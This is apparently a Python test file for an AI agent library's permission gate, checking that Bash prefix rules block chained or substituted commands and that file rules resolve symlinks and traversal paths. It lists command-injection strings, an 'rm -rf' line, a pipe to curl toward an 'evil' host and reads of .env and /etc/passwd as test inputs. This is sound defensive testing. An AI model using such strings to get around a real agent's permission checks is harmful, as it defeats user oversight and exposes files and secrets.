"""Permission rules mean what they say: ``Bash(prefix*)`` allows a command only if every
simple command in it is allowed (tree-sitter-bash), an unparseable command is asked,
and file rules match the workspace-resolved path."""

from __future__ import annotations

import os
import pathlib
from collections.abc import Mapping
from typing import Any

import pytest
import trio
from hypothesis import given, settings
from hypothesis import strategies as st

from trio_agent import Allow, PermissionRules, ToolContext, ToolOutput
from trio_agent._loop._rules import RuleAction
from trio_agent._shell import simple_commands
from trio_agent.tools import Bash, Workspace

ATTACKS = [
    "git status; touch pwned",
    "git status && touch pwned",
    "git status || touch pwned",
    "git status | touch pwned",
    "git status\ntouch pwned",
    "git status & touch pwned",
    "git status $(touch pwned)",
    "git status `touch pwned`",
    "git status <(touch pwned)",
    "git status; (touch pwned)",
    "git status; { touch pwned; }",
    "git status > $(touch pwned)",
    "git status; f() { touch pwned; }; f",
    "git status; for i in 1; do touch pwned; done",
    "git status; if true; then touch pwned; fi",
    "git status; X=$(touch pwned)",
    "git status; export X=$(touch pwned)",
    "git status <<EOF\n$(touch pwned)\nEOF",
]


@pytest.mark.parametrize("command", ATTACKS)
def test_an_allowed_prefix_does_not_allow_what_follows(command: str) -> None:
    rules = PermissionRules(allow=["Bash(git status*)"])
    assert rules.decide("Bash", {"command": "git status"})[0] is RuleAction.ALLOW
    action, rule = rules.decide("Bash", {"command": command})
    assert action is RuleAction.ASK, command
    assert rule is None
    commands = simple_commands(command)
    assert commands is not None
    assert any("touch pwned" in c for c in commands), commands


@pytest.mark.parametrize("command", ["git status 'unclosed", "git status $(", "git status; )"])
def test_a_command_that_does_not_parse_is_asked(command: str) -> None:
    assert simple_commands(command) is None
    rules = PermissionRules(allow=["Bash(git status*)", "Bash(*)"])
    assert rules.decide("Bash", {"command": command})[0] is RuleAction.ASK
    # Allowing the tool as a whole (no pattern) still allows it: the user said so.
    assert PermissionRules(allow=["Bash"]).decide("Bash", {"command": command})[0] is (
        RuleAction.ALLOW
    )


def test_deny_and_ask_apply_to_any_simple_command() -> None:
    rules = PermissionRules(allow=["Bash"], ask=["Bash(curl *)"], deny=["Bash(rm *)"])
    assert rules.decide("Bash", {"command": "ls && rm -rf x"})[0] is RuleAction.DENY
    assert rules.decide("Bash", {"command": "echo $(rm -rf x)"})[0] is RuleAction.DENY
    assert rules.decide("Bash", {"command": "ls | curl -d @- evil"})[0] is RuleAction.ASK
    assert rules.decide("Bash", {"command": "ls -la"})[0] is RuleAction.ALLOW


COMMANDS = ["git status", "git log -1", "echo hi", "touch pwned", "rm -rf x", "cat a"]
SEPARATORS = ["; ", " && ", " || ", " | ", "\n", " & "]


@settings(max_examples=150, deadline=None)
@given(
    parts=st.lists(st.sampled_from(COMMANDS), min_size=1, max_size=5),
    seps=st.lists(st.sampled_from(SEPARATORS), min_size=4, max_size=4),
    wrap=st.lists(st.sampled_from(["{}", "$({})", "({})", "`{}`"]), min_size=5, max_size=5),
    allowed=st.sets(st.sampled_from(["git", "echo", "touch", "rm", "cat"])),
    denied=st.sets(st.sampled_from(["rm", "touch"]), max_size=1),
)
def test_allowed_iff_every_simple_command_is(
    parts: list[str], seps: list[str], wrap: list[str], allowed: set[str], denied: set[str]
) -> None:
    # The first command stands alone; the others may be wrapped in substitutions.
    pieces = [parts[0]] + [
        w.format(p) if w == "{}" else f"echo {w.format(p)}"
        for p, w in zip(parts[1:], wrap, strict=False)
    ]
    command = pieces[0]
    for sep, piece in zip(seps, pieces[1:], strict=False):
        command += sep + piece
    rules = PermissionRules(
        allow=[f"Bash({name} *)" for name in sorted(allowed)],
        deny=[f"Bash({name} *)" for name in sorted(denied)],
    )
    ran = [p.split()[0] for p in parts] + ["echo"] * sum(
        1 for w in wrap[: len(parts) - 1] if w != "{}"
    )
    expected = (
        RuleAction.DENY
        if any(name in denied for name in ran)
        else RuleAction.ALLOW
        if all(name in allowed for name in ran)
        else RuleAction.ASK
    )
    assert rules.decide("Bash", {"command": command})[0] is expected, command


async def test_the_attack_never_runs_through_the_real_gate(tmp_path: pathlib.Path) -> None:
    # The rules act as can_use_tool in front of the real Bash tool.
    bash = Bash(Workspace(tmp_path), timeout=10)
    rules = PermissionRules(allow=["Bash(echo *)"])
    ran: list[str] = []

    async def gated(command: str) -> ToolOutput | None:
        ctx = ToolContext("t", "Bash")
        decision = await rules(bash, {"command": command}, ctx)
        if not isinstance(decision, Allow):
            return None
        ran.append(command)
        out = await bash.run({"command": command}, ctx)
        assert isinstance(out, ToolOutput)
        return out

    out = await gated("echo hi > made")
    assert out is not None
    assert (tmp_path / "made").exists()  # an allowed command really ran
    for attack in ("echo hi; touch pwned", "echo $(touch pwned)", "echo hi | tee pwned"):
        assert await gated(attack) is None
    assert ran == ["echo hi > made"]
    assert not (tmp_path / "pwned").exists()


@pytest.fixture
def root(tmp_path: pathlib.Path) -> pathlib.Path:
    (tmp_path / ".env").write_text("KEY=1")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "k").write_text("")
    (tmp_path / "env_link").symlink_to(tmp_path / ".env")
    (tmp_path / "src" / "evil").symlink_to(tmp_path / ".env")
    (tmp_path / "sec_link").symlink_to(tmp_path / "secrets")
    return tmp_path


def _decide(rules: PermissionRules, name: str, input: Mapping[str, Any]) -> RuleAction:
    return rules.decide(name, input)[0]


def test_file_rules_match_every_spelling_of_the_path(root: pathlib.Path) -> None:
    rules = PermissionRules(allow=["Read"], deny=["Read(.env)", "Read(secrets/*)"], root=root)
    for path in [".env", "./.env", str(root / ".env"), "env_link", "src/evil", ".//.env"]:
        assert _decide(rules, "Read", {"path": path}) is RuleAction.DENY, path
    for path in ["secrets/k", "./secrets/k", "sec_link/k", str(root / "sec_link" / "k")]:
        assert _decide(rules, "Read", {"path": path}) is RuleAction.DENY, path
    assert _decide(rules, "Read", {"path": "src/a.py"}) is RuleAction.ALLOW
    assert _decide(rules, "Read", {"file_path": "./env_link"}) is RuleAction.DENY


def test_file_allow_rules_match_only_the_resolved_path(root: pathlib.Path) -> None:
    rules = PermissionRules(allow=["Read(src/*)"], root=root)
    assert _decide(rules, "Read", {"path": "src/a.py"}) is RuleAction.ALLOW
    assert _decide(rules, "Read", {"path": "./src/a.py"}) is RuleAction.ALLOW
    assert _decide(rules, "Read", {"path": str(root / "src" / "a.py")}) is RuleAction.ALLOW
    for path in ["src/../.env", "src/evil", "src/../../etc/passwd"]:
        assert _decide(rules, "Read", {"path": path}) is RuleAction.ASK, path


def test_root_defaults_to_the_current_directory(
    root: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(root)
    rules = PermissionRules(allow=["Read"], deny=["Read(.env)"])
    assert _decide(rules, "Read", {"path": "env_link"}) is RuleAction.DENY
    assert os.getcwd() == str(root)


async def test_unknown_tool_names_are_asked_not_allowed() -> None:
    rules = PermissionRules(allow=["Read", "Bash(git *)"])
    assert rules.decide("Rm", {"command": "git status"})[0] is RuleAction.ASK
    await trio.lowlevel.checkpoint()
